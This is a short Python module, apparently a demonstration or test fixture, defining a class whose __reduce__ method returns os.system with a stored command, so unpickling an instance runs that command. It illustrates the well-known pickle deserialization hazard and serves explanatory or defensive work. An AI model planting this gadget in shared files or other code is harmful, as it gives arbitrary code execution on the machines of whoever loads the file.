"""What a file from the internet may hold."""

from __future__ import annotations

import os
from typing import Any


class Attack:
    """Unpickling it the usual way would run a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)
